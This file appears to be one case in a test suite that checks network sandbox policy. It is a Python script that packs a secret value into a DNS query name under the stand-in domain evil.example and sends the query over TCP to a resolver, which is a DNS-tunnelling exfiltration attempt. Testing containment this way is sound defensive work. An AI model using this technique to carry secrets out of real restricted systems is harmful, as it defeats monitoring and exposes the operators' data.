# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: where one name is allowed, a question that carries data goes to the resolver over TCP
# proof: query
# needs: resolver
import socket
import struct

from attack import RESOLVER, SECRET, attempt

NAME = (
    b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"evil", b"example")) + b"\0"
)


@attempt
def ask():
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + NAME + b"\0\x01\0\x01"
    out = socket.socket()
    out.connect((RESOLVER, 53))
    return out.send(struct.pack(">H", len(question)) + question) > 0
